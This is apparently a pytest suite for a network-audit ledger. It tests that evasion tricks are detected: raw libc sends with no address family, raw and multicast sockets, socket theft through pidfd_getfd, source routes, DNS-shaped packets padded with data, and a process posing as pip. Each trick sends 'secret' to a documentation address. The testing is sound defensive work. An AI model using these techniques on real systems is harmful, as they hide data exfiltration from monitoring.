"""Ways past the ledger that were found once: each is recorded, refused, or makes the ledger incomplete.

They run in a network of their own whose loopback has the addresses for documentation, so that packets to them are
really sent, and stay on this machine.
"""

import socket
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from settle.audit.ledger import read_sessions
from settle.audit.socket_facts import asked_name
from tests.audit.conftest import Watched

ADDRESS = "203.0.113.9"
NATIVE = """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
def sin(family, ip, port): return struct.pack("=H", family) + struct.pack("!H", port) + socket.inet_aton(ip) + bytes(8)
def message(address, control=b""):
    kept = [ctypes.create_string_buffer(part, len(part)) for part in (address, b"secret", control)]
    place = [ctypes.addressof(one) for one in kept]
    kept.append(ctypes.create_string_buffer(struct.pack("QQ", place[1], 6), 16))
    header = struct.pack("QIIQQQQII", place[0] if address else 0, len(address), 0, ctypes.addressof(kept[3]), 1,
                         place[2] if control else 0, len(control), 0, 0)
    kept.append(ctypes.create_string_buffer(header + bytes(8), 64))
    return kept
def question(name, more=b""):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return bytes.fromhex("1234 0100 0001 0000 0000 0000") + labels + b"\\0\\0\\1\\0\\1" + more
route = bytes([1, 131, 7, 4]) + socket.inet_aton("203.0.113.9")  # a loose source route: its first hop
datagram = socket.socket(type=socket.SOCK_DGRAM)
"""
# The code prints "True" where it has done what it is about.
SENT = {
    "sendto without a family": """
        print(libc.sendto(datagram.fileno(), b"secret", 6, 0, sin(0, "203.0.113.9", 9999), 16) == 6)
    """,
    "sendmsg without a family": """
        print(libc.sendmsg(datagram.fileno(), message(sin(0, "203.0.113.9", 9999))[-1], 0) == 6)
    """,
    "sendmmsg without a family": """
        print(libc.sendmmsg(datagram.fileno(), message(sin(0, "203.0.113.9", 9999))[-1], 1, 0) == 1)
    """,
    "the same, of another process": """
        code = '''if 1:
            import ctypes, socket, struct
            address = struct.pack("=H", 0) + struct.pack("!H", 9999) + socket.inet_aton("203.0.113.9") + bytes(8)
            datagram = socket.socket(type=socket.SOCK_DGRAM)
            print(ctypes.CDLL(None).sendto(datagram.fileno(), b"secret", 6, 0, address, 16) == 6)
        '''
        print(subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout.strip())
    """,
    "a descriptor with garbage above": """
        to = sin(0, "203.0.113.9", 9999)
        fd = ctypes.c_long(datagram.fileno() | 7 << 32)
        call, size = {"x86_64": 44, "aarch64": 206}[os.uname().machine], ctypes.c_long(6)
        print(libc.syscall(ctypes.c_long(call), fd, b"secret", size, ctypes.c_long(0), to, ctypes.c_long(16)) == 6)
    """,
}
HIDDEN = {
    "a raw socket": (
        """
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        print(libc.sendto(raw.fileno(), bytes.fromhex("0800f7ff00000000"), 8, 0, sin(0, "203.0.113.9", 0), 16) == 8)
        """,
        "Undeclared connections: raw by python",
    ),
    "a group that is joined": (
        """
        datagram.setsockopt(0, 35, socket.inet_aton("239.1.2.3") + socket.inet_aton("203.0.113.1"))
        print(True)
        """,
        "Undeclared connections: multicast by python",
    ),
    "a socket of another process": (
        """
        code = "import socket, time; s = socket.socket(type=2); s.connect(('203.0.113.9', 9999)); time.sleep(60)"
        other = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE)
        time.sleep(1)
        taken = libc.syscall(ctypes.c_long(438), os.pidfd_open(other.pid), 3, 0)
        print(taken >= 0)
        other.kill()
        """,
        "Undeclared connections: 203.0.113.9:9999",
    ),
}
ROUTES = {
    "option": 'datagram.setsockopt(0, 4, route); datagram.sendto(b"secret", ("127.0.0.1", 9999))',
    "option of a stream": "socket.socket().setsockopt(0, 4, route)",
    "option of IPv6": """
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).setsockopt(41, 57, bytes([0, 2, 2, 1] + [0] * 20))
    """,
    "message": 'datagram.sendmsg([b"secret"], [(0, 7, route)], 0, ("127.0.0.1", 9999))',
    "message of a connected socket": """
        datagram.connect(("127.0.0.1", 9999))
        datagram.sendmsg([b"secret"], [(1, 99, b""), (0, 7, route)])
    """,
}
LISTENING = {
    "a local one before": """
        first = socket.socket(); first.bind(("127.0.0.1", 0)); number = first.fileno(); first.close()
        listening = socket.socket(); assert listening.fileno() == number; listening.listen()
    """,
    "a file before": """
        first = socket.socket(socket.AF_UNIX); first.bind("\\0abc"); number = first.fileno(); first.close()
        listening = socket.socket(); assert listening.fileno() == number; listening.listen()
    """,
    "a copy over a local one": """
        first = socket.socket(); first.bind(("127.0.0.1", 0))
        listening = socket.socket(); listening.bind(("0.0.0.0", 0))
        os.dup2(listening.fileno(), first.fileno()); first.listen()
    """,
    "bound without a family": """
        listening = socket.socket()
        assert libc.bind(listening.fileno(), sin(0, "0.0.0.0", 0), 16) == 0; listening.listen()
    """,
    "descriptors of a thread's own": """
        first = socket.socket(); first.bind(("127.0.0.1", 0)); first.listen()
        def listen():
            assert libc.unshare(0x400) == 0  # CLONE_FILES
            global listening
            listening = socket.socket(); listening.bind(("0.0.0.0", 0))
            os.dup2(listening.fileno(), first.fileno()); print(libc.listen(first.fileno(), 1) == 0, file=sys.stderr)
            while True: time.sleep(1)
        threading.Thread(target=listen, daemon=True).start(); time.sleep(0.5)
    """,
}
DECLARED = {
    "Python asks, and connects elsewhere": """
        try:
            socket.getaddrinfo("declared.example", 443)
        except OSError:
            pass
        connecting = socket.socket(); connecting.settimeout(0.2); connecting.connect_ex(("203.0.113.9", 443))
    """,
    "a stream to any port 53": """
        connecting = socket.socket(); connecting.settimeout(0.2); connecting.connect_ex(("203.0.113.9", 53))
    """,
    "a question to any port 53": 'datagram.sendto(question("declared.example"), ("203.0.113.9", 53))',
    "a question and more": 'datagram.sendto(question("declared.example", b"secret" * 50), ("203.0.113.9", 53))',
    "a process that says it is pip": """
        code = "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'secret', ('203.0.113.9', 9999))"
        with open(os.environ["SETTLE_HOME"] + "/own.py", "w") as f: f.write(code)
        from settle.audit.session import declare
        declare("", "wheels", module="pip")
        subprocess.run([sys.executable, os.environ["SETTLE_HOME"] + "/own.py", "-m", "pip"])
    """,
}


def run(code, nowhere, **options):
    return Watched(NATIVE + textwrap.dedent(code), under=nowhere, **options)


@pytest.mark.parametrize("name", SENT)
def test_what_is_sent_is_recorded_with_its_address(can_watch, nowhere, home, name):
    watched = run(SENT[name], nowhere)
    assert watched.out == ["True"]
    assert watched.beyond == {(ADDRESS, 9999)} and watched.told
    assert watched.ledger.sentence.startswith(f"Undeclared connections: {ADDRESS}:9999")


@pytest.mark.parametrize("name", HIDDEN)
def test_what_hides_its_address_is_reported_as_such(can_watch, nowhere, home, name):
    code, sentence = HIDDEN[name]
    watched = run(code, nowhere)
    assert watched.out == ["True"] and watched.ledger.sentence.startswith(sentence)


@pytest.mark.parametrize("name", ROUTES)
def test_an_address_is_where_a_packet_goes(can_watch, nowhere, home, name):
    """With a source route it is not: a packet "to 127.0.0.1" would leave for the first hop."""
    watched = run(
        f"try:\n{textwrap.indent(textwrap.dedent(ROUTES[name]), '    ')}\nexcept PermissionError:\n    print(True)",
        nowhere,
    )
    assert watched.out == ["True"] and "a source route by process" in watched.ledger.denied[0]


@pytest.mark.parametrize("in_child", [False, True])
@pytest.mark.parametrize("name", LISTENING)
def test_what_listens_is_what_the_kernel_says(can_watch, nowhere, home, name, in_child):
    """in_child: in another process, whose sockets only the run may look at, as on Ubuntu."""
    code = NATIVE + textwrap.dedent(LISTENING[name])
    if in_child:
        inner = "import os, socket, sys, threading, time\n" + code
        code = f"subprocess.run([sys.executable, '-c', {inner!r}], check=True)"
    watched = Watched(code, under=nowhere, asks=in_child)
    assert len(watched.ledger.listens) == 1 and watched.ledger.listens[0].startswith("0.0.0.0:")
    assert "but it listened on 0.0.0.0:" in watched.ledger.sentence
    assert [line["kind"] for line in watched.told] == ["listen"]


@pytest.mark.parametrize("name", DECLARED)
def test_what_is_declared_is_no_cover_for_others(can_watch, nowhere, home, name):
    watched = run(DECLARED[name], nowhere, reaches=["declared.example"])
    assert [c.address for c in watched.ledger.undeclared] == [ADDRESS]
    assert [line["address"] for line in watched.told] == [ADDRESS]
    assert watched.ledger.sentence.startswith(f"Undeclared connections: {ADDRESS}:")


def test_a_name_is_known_by_what_it_was_found_to_be(can_watch, nowhere, home, tmp_path):
    """localhost's other name: looked up in /etc/hosts, without a name server."""
    watched = run(
        """
        socket.getaddrinfo = lookup = lambda host, *rest, f=socket.getaddrinfo, **more: f(host, *rest, **more)
        from settle.audit import session
        hook = session._hook()
        hook._lookups["getaddrinfo"] = lambda host, *rest, **more: [(2, 1, 6, "", ("203.0.113.9", 443))]
        socket.getaddrinfo = hook._watched("getaddrinfo")
        connecting = socket.socket(); connecting.settimeout(0.2)
        try:
            socket.create_connection(("declared.example", 443), 0.2)
        except OSError:
            pass
        """,
        nowhere,
        reaches=["declared.example"],
    )
    assert watched.ledger.sentence.startswith("Only declared connections: declared.example (203.0.113.9:443); watched")


def test_without_a_network_a_socket_from_before_is_closed(can_watch, can_prove, home):
    with (
        socket.create_server(("127.0.0.1", 0)) as listening,
        socket.create_connection(listening.getsockname()) as inside,
    ):
        outside, _ = listening.accept()
        number = inside.fileno()
        code = f"""
            try:
                os.write({number}, b"secret")
            except OSError as e:
                print(e.errno)
        """
        watched = Watched(code, offline=True, pass_fds=[number])
        inside.close()
        with outside:
            assert outside.recv(9) == b""
    assert watched.out == ["9"] and watched.level == "proved"  # EBADF
    assert watched.ledger.denied[0].startswith(f"socket {number}, which was there before, by process")


OFFLINE = """
from settle.audit import session
session.from_command_line(True)
with session.ledger("try", (), True):
    print("secret", flush=True)
"""


def test_output_that_leaves_this_machine_is_not_offline(can_watch, nowhere, home):
    """As under inetd. A terminal, a pipe or a journal's socket is somebody else's concern."""
    code = f"""
        import socket, subprocess, sys
        here = socket.socket(type=socket.SOCK_DGRAM); here.bind(("127.0.0.1", 9999)); here.settimeout(0.5)
        for address in ("{ADDRESS}", "127.0.0.1"):
            out = socket.socket(type=socket.SOCK_DGRAM); out.connect((address, 9999))
            command = [sys.executable, "-c", {OFFLINE!r}]
            done = subprocess.run(command, stdout=out, stderr=subprocess.PIPE, text=True)
            print(done.returncode, done.stderr.strip().rpartition(chr(10))[2])
        print(here.recv(9))
    """
    done = subprocess.run([*nowhere, sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True)
    refused, allowed, received = done.stdout.splitlines()
    assert refused.startswith("1 ") and f"descriptor 1 is a connection to {ADDRESS}, where output would go" in refused
    assert allowed == "0 " and received.startswith("b'secret")


def test_a_connection_from_before_is_in_the_ledger(can_watch, nowhere, home):
    code = f"""
        import os, socket, subprocess, sys
        inside, listening = socket.socket(type=socket.SOCK_DGRAM), socket.create_server(("0.0.0.0", 0))
        inside.connect(("{ADDRESS}", 9999))
        for one in (inside, listening):
            os.set_inheritable(one.fileno(), True)
        code = "from settle.audit import session; session.from_command_line(False)" + chr(10)
        code += "with session.ledger('try', ()) as opened: print(opened.path)"
        subprocess.run([sys.executable, "-c", code], close_fds=False)
    """
    done = subprocess.run([*nowhere, sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True)
    found = read_sessions([Path(done.stdout.strip())], is_running=True)
    assert [(c.address, c.port, c.call) for c in found.undeclared] == [(ADDRESS, 9999, "open before")]
    assert len(found.listens) == 1 and found.sentence.startswith(f"Undeclared connections: {ADDRESS}:9999")


QUESTION = bytes.fromhex("1234 0120 0001 0000 0000 0001") + b"\3hub\7example\0\0\1\0\1"
OPTIONS = bytes.fromhex("00 0029 04d0 00000000 000c 000a0008") + bytes(8)  # a cookie


@pytest.mark.parametrize(
    ("payload", "name"),
    [
        (QUESTION + OPTIONS, "hub.example"),
        (b"\0\x1d" + QUESTION[:10] + b"\0\0" + QUESTION[12:], "hub.example"),
        (QUESTION + OPTIONS + b"secret", None),
        (QUESTION + OPTIONS[:10] + b"" + bytes(60), None),
        (QUESTION[:2] + b"\x81" + QUESTION[3:] + OPTIONS, None),  # an answer
        (b"secret" * 9, None),
        (b"", None),
    ],
)
def test_a_question_is_nothing_more(payload, name):
    assert asked_name(payload, len(payload)) == name
    assert asked_name(payload, len(payload) + 1) is None
